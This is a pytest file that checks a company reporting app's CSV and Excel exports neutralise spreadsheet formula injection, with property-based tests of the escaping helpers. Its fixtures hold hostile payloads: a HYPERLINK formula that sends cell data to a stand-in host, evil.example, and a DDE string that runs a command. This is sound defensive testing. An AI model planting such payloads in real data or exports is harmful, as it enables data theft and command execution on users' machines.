"""Formula injection: no download lets a spreadsheet run text from the data as a formula.

Names, titles and positions come from the company's own files, so a department called
=HYPERLINK(...) must reach every download as text: in CSV with a leading apostrophe, in a
workbook as a text cell marked quotePrefix (exports/safe_cells.py), never as a formula.
Numbers stay numbers, negative ones too. The evil company goes in through the real
importer, and out through the review pack, the bonus sheet and the pages' download buttons.
"""
from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from data_access.models import Content, Department, Employee
from data_access.scope import Scope
from exports.bonus_sheet import month_bonus_workbook
from exports.review_pack import review_pack
from exports.safe_cells import (FORMULA_STARTS, NEGATIVE_NUMBER, csv_safe, is_formula_like,
                                to_csv_bytes)
from exports.xlsx import frames_to_xlsx, new_workbook, sheet_title, write_table
from metrics.incentives import load_rules
from metrics.review import monthly_review
from metrics.settings import load_settings
from tests.apptest_support import login, open_page, prepare
from tests.build_company import Company

MONTH = "2026-04"                                  # promotion: alerts for every department
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
DDE = "=cmd|' /C calc'!A0"
EVIL = (HYPERLINK, "+1", "-2+3", "@SUM(A1:A2)", DDE, "＝1+1", "-d/5")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def evil_company() -> Company:
    """Departments, people, a position, content titles and a channel spelled like formulas."""
    c = Company()
    c.dept("d1", in_pilot=True, name=HYPERLINK).dept("d2", name="+1").dept("d3", name="-2+3")
    c.dept("-d/5", name="@SUM(A1:A2)")          # an id like a formula, with a slash
    c.emp("u1", "d1", name="＝1+1").emp("u2", "d1", name=DDE, position=DDE)
    c.emp("u3", "d2", name="@SUM(A1:A2)").emp("u4", "d3", name="+1").emp("u5", "-d/5", name="-2+3")
    c.content("c2", title=HYPERLINK)
    c.rows["content"][-1]["content_type"] = "@type"
    c.shares("u1", "2026-03", 2, reach=4000, clicks=40, content_id="c2")   # April's reach drops
    c.shares("u1", MONTH, 6, reach=300, clicks=3, content_id="c2")         # 6 shares: a bonus
    c.shares("u2", MONTH, 1, reach=50, clicks=1)
    c.rows["shares"][-1]["channel"] = "+wechat"
    c.shares("u3", MONTH, 1, reach=20, clicks=0)
    c.lead("u1", f"{MONTH}-03 10:00", "won", f"{MONTH}-10", "1200")
    c.pulse("d1", f"{MONTH}-20", 2)
    c.pulse("d1", f"{MONTH}-21", 3)                                         # eNPS -100
    c.target(MONTH, "d1", "reach", 5000)
    return c


def load_evil(engine, folder) -> None:
    evil_company().load(engine, folder)     # asserts the import is accepted
    with engine.connect() as conn:          # ... and stored every name as it was written
        assert set(conn.scalars(select(Department.name))) == {HYPERLINK, "+1", "-2+3", "@SUM(A1:A2)"}
        assert set(conn.scalars(select(Employee.name))) == {"＝1+1", DDE, "@SUM(A1:A2)", "+1", "-2+3"}
        assert conn.scalar(select(Content.title).where(Content.content_id == "c2")) == HYPERLINK


# --- what every download must hold -----------------------------------------------------------

def check_csv(data: bytes) -> set[str]:
    """Every cell that would start a formula is neutralised or a number; returns the cells."""
    cells = {cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
             for cell in row}
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), repr(cell)
    return cells


def check_workbook(data: bytes) -> tuple[set[str], list[float]]:
    """No formula anywhere; formula-like text is a text cell marked quotePrefix. Returns the
    text cells and the numbers."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts, numbers = set(), []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix or not is_formula_like(cell.value), (ws.title, cell.coordinate)
                    texts.add(cell.value)
                elif isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                    assert cell.data_type == "n"
                    numbers.append(cell.value)
    return texts, numbers


# --- the review pack and the bonus sheet, on both databases ----------------------------------

@pytest.mark.parametrize("lang", ["zh", "en"])
def test_review_pack_and_bonus_sheet_keep_formula_text_as_text(engine, tmp_path, lang):
    load_evil(engine, tmp_path / "evil")
    settings_ = load_settings(engine)
    texts, numbers = check_workbook(review_pack(monthly_review(engine, MONTH, settings_), lang,
                                                engine, settings_))
    assert {HYPERLINK, "+1", "-2+3", "@SUM(A1:A2)", "-d/5"} <= texts   # names and ids, verbatim
    assert -100 in numbers                      # d1's eNPS: a negative number stays a number
    assert any(n < 0 for n in numbers if n != -100)                 # e.g. reach's change
    texts, numbers = check_workbook(month_bonus_workbook(
        engine, MONTH, Scope.company(), lang, settings_, load_rules()))
    assert {"＝1+1", HYPERLINK} <= texts        # the person with the bonus, their department
    assert numbers


# --- the pages' downloads ---------------------------------------------------------------------

PAGES = (("review", None), ("league", None), ("alerts", None), ("phases", None), ("pilot", None),
         ("recognition", None), ("team", "d1"), ("team", "-d/5"))   # team: which department


def test_page_downloads_neutralise_formula_text(monkeypatch, tmp_path, downloads):
    from data_access.db import get_engine
    url = f"sqlite:///{tmp_path / 'evil.db'}"
    load_evil(get_engine(url), tmp_path / "evil")
    prepare(monkeypatch, url)
    at = login("admin", lang="en")
    for page, department in PAGES:
        offered = len(downloads.files)
        open_page(at, page)
        if at.selectbox(key="month_picker").value != MONTH:
            at.selectbox(key="month_picker").set_value(MONTH).run()
        if department:
            at.selectbox(key="department").set_value(department).run()
            assert at.selectbox(key="department").value == department
        assert not at.exception, (page, at.exception)
        assert len(downloads.files) > offered, page    # "team--d/5-2026-04": a valid sheet name
    csv_cells, book_texts = set(), set()
    for data in downloads.files:
        if data[:2] == b"PK":
            book_texts |= check_workbook(data)[0]
        else:
            csv_cells |= check_csv(data)
    for evil in EVIL[:-1]:                      # each name reached a CSV, neutralised
        assert "'" + evil in csv_cells and evil not in csv_cells, evil
        assert evil in book_texts, evil
    assert "'+wechat" in csv_cells               # a channel


# --- the helpers --------------------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("＝1+1", "'＝1+1"), ("＋1", "'＋1"),
    ("－1", "'－1"), ("＠x", "'＠x"), ("+3", "'+3"), ("-2+3", "'-2+3"), ("-1e5", "'-1e5"),
    ("-3.5", "-3.5"), ("-30.0%", "-30.0%"), ("-1,234.5", "-1,234.5"),   # negative numbers
    ("-1,23", "'-1,23"), ("-3.", "'-3."), ("-", "'-"), ("-\n1", "'-\n1"),
    ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("销售部", "销售部"), ("'=1", "'=1"),
    (-3.5, -3.5), (-1, -1), (None, None)])
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_csv_keeps_numbers_and_neutralises_every_kind_of_text_column():
    frame = pd.DataFrame({
        "=header": [1, 2, 3],
        "number": [-3.5, -1e-05, 2.0],
        "whole": [-4, 0, 7],
        "object": ["=1+1", -2, None],
        "string": pd.array(["+1", None, "ok"], dtype="string"),
        "category": pd.Categorical(["@x", "y", "@x"]),
        "flag": [True, False, True],
        "when": pd.to_datetime(["2026-04-01", "2026-04-02", None])})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[0] == ["'=header", "number", "whole", "object", "string", "category", "flag", "when"]
    assert [r[1] for r in rows[1:]] == ["-3.5", "-1e-05", "2.0"]          # numbers, not text
    assert [r[2] for r in rows[1:]] == ["-4", "0", "7"]
    assert [r[3] for r in rows[1:]] == ["'=1+1", "-2", ""]                # -2: a number cell
    assert [r[4] for r in rows[1:]] == ["'+1", "", "ok"]
    assert [r[5] for r in rows[1:]] == ["'@x", "y", "'@x"]
    assert rows[1][6:] == ["True", "2026-04-01"]
    assert to_csv_bytes(frame).startswith(b"\xef\xbb\xbf")
    assert frame.loc[0, "object"] == "=1+1"                               # the frame untouched


TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12)
TRIGGERED = st.one_of(st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_STARTS), TEXT),
                      st.from_regex(r"-[0-9,.]{1,8}%?", fullmatch=True))


@settings(max_examples=60, deadline=None, database=None)
@given(st.lists(st.tuples(st.one_of(TRIGGERED, TEXT), st.floats(allow_nan=False, allow_infinity=False)),
                min_size=1, max_size=8))
def test_csv_roundtrip_text_neutralised_numbers_exact(pairs):
    frame = pd.DataFrame({"text": [t for t, _ in pairs], "number": [n for _, n in pairs]})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))[1:]
    for (text, _), row in zip(pairs, rows):
        if is_formula_like(text) and row[0] == text:     # left alone: only a negative number
            assert NEGATIVE_NUMBER.fullmatch(text)
            float(text.rstrip("%").replace(",", ""))      # it is a number
        else:
            assert row[0] == ("'" + text if is_formula_like(text) else text)
    assert [float(r[1]) for r in rows] == [n for _, n in pairs]


XML_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\t\n\r"),
                   max_size=12)


@settings(max_examples=40, deadline=None, database=None)
@given(st.lists(st.tuples(st.one_of(st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_STARTS),
                                              XML_TEXT), XML_TEXT),
                          st.one_of(st.integers(-10**6, 10**6), st.floats(-1e9, 1e9))),
                min_size=1, max_size=8), st.text(max_size=40))
def test_workbook_text_stays_text_and_numbers_numbers(pairs, title):
    """Any text, "#N/A" and "=..." included, is a text cell with its value unchanged; any
    name makes a valid sheet (ids in download names may hold / or :)."""
    data = frames_to_xlsx({title: pd.DataFrame({"text": [t for t, _ in pairs],
                                                "number": [n for _, n in pairs]})})
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert ws.title == sheet_title(title)
    for (text, number), (a, b) in zip(pairs, ws.iter_rows(min_row=2)):
        if text:                                 # an empty text reads back as an empty cell
            # a bare carriage return may read back as a line feed (XML's line-end rule; with
            # lxml installed openpyxl escapes it and it stays as it was)
            assert a.value in (text, text.replace("\r\n", "\n").replace("\r", "\n"))
            assert a.data_type == "s"
            assert a.quotePrefix == is_formula_like(text)
        # a number is a number cell; written with 15 significant digits, as Excel keeps them
        assert b.data_type == "n" and b.value == pytest.approx(number, rel=1e-14, abs=1e-300)
    check_workbook(data)


def test_write_table_headers_and_cells():
    wb = new_workbook()
    ws = wb.create_sheet("t")
    write_table(ws, ["=h", "v"], [["#N/A", -3.5], ["@x", -2]])
    out = io.BytesIO()
    wb.save(out)
    texts, numbers = check_workbook(out.getvalue())
    assert texts == {"=h", "v", "#N/A", "@x"} and numbers == [-3.5, -2]
